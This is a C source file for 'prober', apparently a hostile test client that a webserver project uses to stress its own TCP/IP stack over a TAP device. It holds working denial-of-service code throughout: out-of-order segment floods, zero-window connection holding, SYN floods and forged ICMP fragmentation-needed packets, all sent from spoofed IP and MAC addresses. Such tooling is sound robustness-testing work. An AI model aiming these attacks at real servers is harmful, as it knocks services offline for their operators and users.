/*
 * prober - a hostile TCP/IP client for tests/hostile/run.sh. It speaks raw
 * Ethernet on a TAP device (AF_PACKET), as many on-link hosts at once, to
 * one server (Kiln's webserver), so it can do what no socket API lets a
 * client do:
 *
 *   prober IFNAME MODE [key=value...]
 *
 *   ooo       n connections complete the handshake, then send small
 *             segments (seg= bytes) behind a one-byte hole that is never
 *             filled, over and over, up to the server's window
 *   zerowin   n connections ask for path= and advertise a tiny window,
 *             then a zero window for good, answering every probe
 *   synflood  SYNs from random on-link sources (random IPs of the /24 but
 *             ours and the server's, random MACs), never answered
 *   icmp      ICMP fragmentation-needed for the server's address, from
 *             random on-link sources, quoting random TCP headers
 *
 * Keys: dst= (server IP, 10.84.0.2), dmac= (its MAC, 52:54:00:12:34:56),
 * src= (first IP the connections use, 10.84.0.100), srcs= (how many IPs,
 * 50), n= (connections, 150), dur= (seconds, 10), rate= (packets per
 * second at most, 4000), seg= (bytes per segment, 1), port= (80),
 * path= (/files/64k.txt).
 *
 * The prober answers ARP for its own addresses (src=.. src+srcs-1), with
 * one made-up MAC. At the end every connection it holds is reset (RST at
 * the sequence number the server expects), so the server can let go.
 * Prints one summary line, "prober MODE: ..."; exits 0 when the attack
 * was delivered (for ooo and zerowin: at least one connection was
 * established), 1 otherwise, 2 on bad arguments.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_packet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ETH_IP 0x0800
#define ETH_ARP 0x0806
#define TCP_FIN 0x01
#define TCP_SYN 0x02
#define TCP_RST 0x04
#define TCP_PSH 0x08
#define TCP_ACK 0x10
#define MAX_CONNS 4096

enum mode { M_OOO, M_ZEROWIN, M_SYNFLOOD, M_ICMP, M_NOISE };
enum cstate { C_NONE, C_SYN_SENT, C_EST, C_DEAD };

struct conn {
	uint32_t ip;        /* ours, host order */
	uint16_t port;      /* ours */
	enum cstate st;
	uint32_t iss;       /* our initial sequence number */
	uint32_t rcv_nxt;   /* next byte expected from the server */
	uint32_t snd_win;   /* the server's window (unscaled: we send no wscale) */
	uint32_t off;       /* ooo: next offset past the hole */
	uint32_t snd_nxt;   /* next byte we send in order (the hole, for ooo) */
	int req_sent;       /* zerowin */
	double syn_at;
};

static int fd;
static int ifindex;
static uint8_t my_mac[6] = { 0x02, 0x6b, 0x68, 0x6f, 0x73, 0x74 };
static uint8_t dmac[6] = { 0x52, 0x54, 0x00, 0x12, 0x34, 0x56 };
static uint32_t dst_ip, src_ip;
static unsigned nsrcs = 50, nconns = 150, seg = 1, rate = 4000, dport = 80;
static double dur = 10;
static const char *path = "/files/64k.txt";
static struct conn conns[MAX_CONNS];
static unsigned long sent, rcvd, resets_seen, est_count, rst_sent;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint16_t csum_add(uint32_t sum, const void *p, size_t n, int fold)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		sum += (uint32_t)b[n - 1] << 8;
	if (!fold)
		return 0;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t sum32(const void *p, size_t n)
{
	const uint8_t *b = p;
	uint32_t sum = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		sum += (uint32_t)b[n - 1] << 8;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint32_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v); }
static uint32_t get16(const uint8_t *p) { return (uint32_t)p[0] << 8 | p[1]; }
static uint32_t get32(const uint8_t *p) { return get16(p) << 16 | get16(p + 2); }

static void xmit(const uint8_t *f, size_t n)
{
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6 };
	memcpy(a.sll_addr, f, 6);
	for (int tries = 0; tries < 100; tries++) {
		if (sendto(fd, f, n, 0, (struct sockaddr *)&a, sizeof a) >= 0) {
			sent++;
			return;
		}
		if (errno != ENOBUFS && errno != EAGAIN)
			break;
		usleep(200);
	}
}

/* eth + ip header at f; returns the IP payload's start */
static uint8_t *ip_hdr(uint8_t *f, const uint8_t *smac, uint32_t sip, uint32_t dip, uint8_t proto,
		       size_t plen)
{
	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	put16(f + 12, ETH_IP);
	uint8_t *ip = f + 14;
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, (uint32_t)(20 + plen));
	put16(ip + 4, (uint32_t)rand());
	put16(ip + 6, 0x4000);   /* DF */
	ip[8] = 64;
	ip[9] = proto;
	put32(ip + 12, sip);
	put32(ip + 16, dip);
	put16(ip + 10, csum_add(0, ip, 20, 1));
	return ip + 20;
}

static void tcp_send(const uint8_t *smac, uint32_t sip, uint16_t sport, uint32_t seq, uint32_t ack,
		     uint8_t flags, uint16_t win, const void *data, size_t dlen, int mss_opt)
{
	uint8_t f[1600];
	size_t hl = mss_opt ? 24 : 20;
	uint8_t *t = ip_hdr(f, smac, sip, dst_ip, 6, hl + dlen);
	memset(t, 0, hl);
	put16(t, sport);
	put16(t + 2, dport);
	put32(t + 4, seq);
	put32(t + 8, ack);
	t[12] = (uint8_t)((hl / 4) << 4);
	t[13] = flags;
	put16(t + 14, win);
	if (mss_opt) {
		t[20] = 2;
		t[21] = 4;
		put16(t + 22, 1460);
	}
	if (dlen)
		memcpy(t + hl, data, dlen);
	uint8_t ph[12];
	put32(ph, sip);
	put32(ph + 4, dst_ip);
	ph[8] = 0;
	ph[9] = 6;
	put16(ph + 10, (uint32_t)(hl + dlen));
	put16(t + 16, fold(sum32(ph, 12) + sum32(t, hl + dlen)));
	xmit(f, 14 + 20 + hl + dlen);
}

static struct conn *find(uint32_t ip, uint16_t port)
{
	for (unsigned i = 0; i < nconns; i++)
		if (conns[i].ip == ip && conns[i].port == port)
			return &conns[i];
	return NULL;
}

static int ours(uint32_t ip)
{
	return ip >= src_ip && ip < src_ip + nsrcs;
}

static void arp_reply(const uint8_t *f)
{
	const uint8_t *a = f + 14;
	if (get16(a + 6) != 1)   /* request */
		return;
	uint32_t tip = get32(a + 24);
	if (!ours(tip))
		return;
	uint8_t r[42];
	memcpy(r, f + 6, 6);
	memcpy(r + 6, my_mac, 6);
	put16(r + 12, ETH_ARP);
	uint8_t *p = r + 14;
	put16(p, 1);
	put16(p + 2, ETH_IP);
	p[4] = 6;
	p[5] = 4;
	put16(p + 6, 2);
	memcpy(p + 8, my_mac, 6);
	put32(p + 14, tip);
	memcpy(p + 18, a + 8, 6);
	memcpy(p + 24, a + 14, 4);
	xmit(r, sizeof r);
}

static void send_request(struct conn *c)
{
	char req[256];
	int n = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: kiln\r\n\r\n", path);
	tcp_send(my_mac, c->ip, c->port, c->iss + 1, c->rcv_nxt, TCP_ACK | TCP_PSH, 512, req,
		 (size_t)n, 0);
	c->snd_nxt = c->iss + 1 + (uint32_t)n;
	c->req_sent = 1;
}

static void on_tcp(enum mode m, const uint8_t *ip, size_t len)
{
	size_t ihl = (size_t)(ip[0] & 15) * 4;
	if (len < ihl + 20 || get32(ip + 12) != dst_ip)
		return;
	const uint8_t *t = ip + ihl;
	if (get16(t) != dport)
		return;
	struct conn *c = find(get32(ip + 16), (uint16_t)get16(t + 2));
	if (!c)
		return;
	rcvd++;
	uint8_t fl = t[13];
	uint32_t seq = get32(t + 4);
	size_t thl = (size_t)(t[12] >> 4) * 4;
	size_t tot = get16(ip + 2);
	size_t dlen = tot > ihl + thl ? tot - ihl - thl : 0;
	if (fl & TCP_RST) {
		if (c->st != C_DEAD)
			resets_seen++;
		c->st = C_DEAD;
		return;
	}
	if (c->st == C_SYN_SENT && (fl & (TCP_SYN | TCP_ACK)) == (TCP_SYN | TCP_ACK)) {
		c->rcv_nxt = seq + 1;
		c->snd_win = get16(t + 14);
		c->st = C_EST;
		c->off = 1;
		c->snd_nxt = c->iss + 1;
		est_count++;
		tcp_send(my_mac, c->ip, c->port, c->iss + 1, c->rcv_nxt, TCP_ACK,
			 m == M_ZEROWIN ? 512 : 65535, NULL, 0, 0);
		if (m == M_ZEROWIN)
			send_request(c);
		return;
	}
	if (c->st != C_EST)
		return;
	c->snd_win = get16(t + 14);
	if (m == M_ZEROWIN) {
		/* take in-order data, then say the window is shut, for good */
		if (dlen && seq == c->rcv_nxt)
			c->rcv_nxt += (uint32_t)dlen;
		if (fl & TCP_FIN)
			c->rcv_nxt++;
		if (dlen || (fl & TCP_FIN) || seq != c->rcv_nxt)
			tcp_send(my_mac, c->ip, c->port, c->snd_nxt, c->rcv_nxt,
				 TCP_ACK, 0, NULL, 0, 0);
	}
}

static void poll_rx(enum mode m, int ms)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	if (poll(&p, 1, ms) <= 0)
		return;
	uint8_t f[2048];
	for (int k = 0; k < 256; k++) {
		ssize_t n = recv(fd, f, sizeof f, MSG_DONTWAIT);
		if (n < 14)
			return;
		if (memcmp(f + 6, my_mac, 6) == 0)
			continue;
		uint32_t et = get16(f + 12);
		if (et == ETH_ARP && n >= 42 && (m == M_OOO || m == M_ZEROWIN))
			arp_reply(f);
		else if (et == ETH_IP && n >= 34 && f[14 + 9] == 6)
			on_tcp(m, f + 14, (size_t)n - 14);
	}
}

static uint32_t rnd32(void)
{
	return (uint32_t)rand() << 16 ^ (uint32_t)rand();
}

/* a random on-link address: not the network, broadcast, server, ours */
static uint32_t rnd_onlink(void)
{
	for (;;) {
		uint32_t ip = (dst_ip & 0xffffff00u) | (rnd32() & 0xff);
		uint32_t h = ip & 0xff;
		if (h == 0 || h == 255 || h == 1 || ip == dst_ip || ours(ip))
			continue;
		return ip;
	}
}

static void rnd_mac(uint8_t *m)
{
	for (int i = 0; i < 6; i++)
		m[i] = (uint8_t)rand();
	m[0] = (uint8_t)((m[0] & 0xfe) | 0x02);   /* unicast, locally administered */
}

static void send_syn(struct conn *c)
{
	c->iss = rnd32();
	c->st = C_SYN_SENT;
	c->syn_at = now();
	tcp_send(my_mac, c->ip, c->port, c->iss, 0, TCP_SYN, 65535, NULL, 0, 1);
}

static void synflood_one(void)
{
	uint8_t m[6];
	rnd_mac(m);
	tcp_send(m, rnd_onlink(), (uint16_t)(1024 + rnd32() % 60000), rnd32(), 0, TCP_SYN,
		 65535, NULL, 0, 1);
}

static void icmp_one(void)
{
	uint8_t f[128];
	uint8_t m[6];
	rnd_mac(m);
	size_t plen = 8 + 20 + 8;
	uint8_t *ic = ip_hdr(f, m, rnd_onlink(), dst_ip, 1, plen);
	memset(ic, 0, plen);
	ic[0] = 3;   /* destination unreachable */
	ic[1] = 4;   /* fragmentation needed */
	put16(ic + 6, 68 + rnd32() % (1500 - 68 + 1));
	uint8_t *q = ic + 8;   /* the quoted datagram: the server's, to someone */
	q[0] = 0x45;
	put16(q + 2, 1500);
	put16(q + 4, rnd32());
	put16(q + 6, 0x4000);
	q[8] = 64;
	q[9] = 6;
	put32(q + 12, dst_ip);
	put32(q + 16, (rnd32() & 1) ? rnd_onlink() : ((dst_ip & 0xffffff00u) | 1));
	put16(q + 10, csum_add(0, q, 20, 1));
	put16(q + 20, (rnd32() & 1) ? dport : rnd32());
	put16(q + 22, rnd32());
	put32(q + 24, rnd32());
	put16(ic + 2, csum_add(0, ic, plen, 1));
	xmit(f, 14 + 20 + plen);
}

/* the control load: a frame of the same size as an attack's, addressed to
 * the server's MAC, of an EtherType nobody speaks (IEEE local
 * experimental 0x88b5), so that the host carries the same packet rate
 * while Kiln's link layer discards every frame unread */
static void noise_one(void)
{
	uint8_t f[64];
	memset(f, 0, sizeof f);
	memcpy(f, dmac, 6);
	rnd_mac(f + 6);
	put16(f + 12, 0x88b5);
	put32(f + 14, rnd32());
	xmit(f, sizeof f);
}

static int parse_ip(const char *s, uint32_t *out)
{
	struct in_addr a;
	if (inet_pton(AF_INET, s, &a) != 1)
		return -1;
	*out = ntohl(a.s_addr);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: prober IFNAME ooo|zerowin|synflood|icmp|noise [key=value...]\n");
		return 2;
	}
	enum mode m;
	if (!strcmp(argv[2], "ooo"))
		m = M_OOO;
	else if (!strcmp(argv[2], "zerowin"))
		m = M_ZEROWIN;
	else if (!strcmp(argv[2], "synflood"))
		m = M_SYNFLOOD;
	else if (!strcmp(argv[2], "icmp"))
		m = M_ICMP;
	else if (!strcmp(argv[2], "noise"))
		m = M_NOISE;
	else {
		fprintf(stderr, "prober: unknown mode %s\n", argv[2]);
		return 2;
	}
	parse_ip("10.84.0.2", &dst_ip);
	parse_ip("10.84.0.100", &src_ip);
	for (int i = 3; i < argc; i++) {
		char *v = strchr(argv[i], '=');
		if (!v) {
			fprintf(stderr, "prober: %s: not key=value\n", argv[i]);
			return 2;
		}
		*v++ = 0;
		const char *k = argv[i];
		int bad = 0;
		if (!strcmp(k, "dst"))
			bad = parse_ip(v, &dst_ip);
		else if (!strcmp(k, "src"))
			bad = parse_ip(v, &src_ip);
		else if (!strcmp(k, "dmac"))
			bad = sscanf(v, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dmac[0], &dmac[1], &dmac[2],
				     &dmac[3], &dmac[4], &dmac[5]) != 6;
		else if (!strcmp(k, "srcs"))
			nsrcs = (unsigned)atoi(v);
		else if (!strcmp(k, "n"))
			nconns = (unsigned)atoi(v);
		else if (!strcmp(k, "dur"))
			dur = atof(v);
		else if (!strcmp(k, "rate"))
			rate = (unsigned)atoi(v);
		else if (!strcmp(k, "seg"))
			seg = (unsigned)atoi(v);
		else if (!strcmp(k, "port"))
			dport = (unsigned)atoi(v);
		else if (!strcmp(k, "path"))
			path = v;
		else
			bad = 1;
		if (bad) {
			fprintf(stderr, "prober: bad %s=%s\n", k, v);
			return 2;
		}
	}
	if (nconns > MAX_CONNS || nsrcs == 0 || seg == 0 || seg > 1400 || rate == 0) {
		fprintf(stderr, "prober: n <= %d, srcs > 0, 0 < seg <= 1400, rate > 0\n", MAX_CONNS);
		return 2;
	}
	fd = socket(AF_PACKET, SOCK_RAW, htons(0x0003 /* ETH_P_ALL */));
	if (fd < 0) {
		perror("prober: AF_PACKET socket");
		return 1;
	}
	ifindex = (int)if_nametoindex(argv[1]);
	if (!ifindex) {
		fprintf(stderr, "prober: no interface %s\n", argv[1]);
		return 1;
	}
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(0x0003),
				 .sll_ifindex = ifindex };
	if (bind(fd, (struct sockaddr *)&a, sizeof a) < 0) {
		perror("prober: bind");
		return 1;
	}
	int big = 4 << 20;
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
	srand((unsigned)(time(NULL) ^ getpid()));

	for (unsigned i = 0; i < nconns; i++) {
		conns[i].ip = src_ip + i % nsrcs;
		conns[i].port = (uint16_t)(20000 + i);
	}
	double t0 = now(), end = t0 + dur, next = t0;
	double gap = 1.0 / rate;
	unsigned opened = 0, rr = 0;
	unsigned long data_segs = 0;
	while (now() < end) {
		poll_rx(m, 0);
		double t = now();
		int budget = 0;
		while (next <= t && budget < 64) {
			next += gap;
			budget++;
		}
		if (next < t - 1)
			next = t;   /* do not make up for more than a second */
		for (; budget > 0; budget--) {
			if (m == M_SYNFLOOD) {
				synflood_one();
				continue;
			}
			if (m == M_ICMP) {
				icmp_one();
				continue;
			}
			if (m == M_NOISE) {
				noise_one();
				continue;
			}
			/* connections first (and again for ones that never answered) */
			if (opened < nconns) {
				send_syn(&conns[opened++]);
				continue;
			}
			struct conn *c = NULL;
			for (unsigned k = 0; k < nconns; k++) {
				struct conn *x = &conns[(rr + k) % nconns];
				if (x->st == C_SYN_SENT && t - x->syn_at > 3) {
					send_syn(x);
					c = NULL;
					rr = (rr + k + 1) % nconns;
					goto next_packet;
				}
				if (m == M_OOO && x->st == C_EST) {
					c = x;
					rr = (rr + k + 1) % nconns;
					break;
				}
			}
			if (!c)
				break;
			{
				/* one segment past the hole at offset 0; wrap at the window */
				uint32_t win = c->snd_win ? c->snd_win : 1024;
				if (c->off + seg > win)
					c->off = 1;
				uint8_t d[1400];
				memset(d, 'x', seg);
				tcp_send(my_mac, c->ip, c->port, c->iss + 1 + c->off, c->rcv_nxt, TCP_ACK,
					 65535, d, seg, 0);
				c->off += seg;
				data_segs++;
			}
next_packet:;
		}
		double w = next - now();
		poll_rx(m, w > 0.001 ? 1 : 0);
	}
	/* let go: RST every connection at the sequence number the server expects */
	for (unsigned i = 0; i < nconns; i++) {
		struct conn *c = &conns[i];
		if (c->st == C_EST || c->st == C_SYN_SENT) {
			uint32_t s = c->st == C_EST ? c->snd_nxt : c->iss + 1;
			tcp_send(my_mac, c->ip, c->port, s, 0, TCP_RST, 0, NULL, 0, 0);
			rst_sent++;
		}
	}
	unsigned still = 0;
	for (unsigned i = 0; i < nconns; i++)
		still += conns[i].st == C_EST;
	printf("prober %s: %.1f s, %lu packets sent (%lu data segments), %lu received; "
	       "established %lu of %u, %u still open at the end, %lu reset by the server, %lu RST sent\n",
	       argv[2], now() - t0, sent, data_segs, rcvd, est_count,
	       (m == M_OOO || m == M_ZEROWIN) ? nconns : 0, still, resets_seen, rst_sent);
	if ((m == M_OOO || m == M_ZEROWIN) && est_count == 0)
		return 1;
	return sent ? 0 : 1;
}
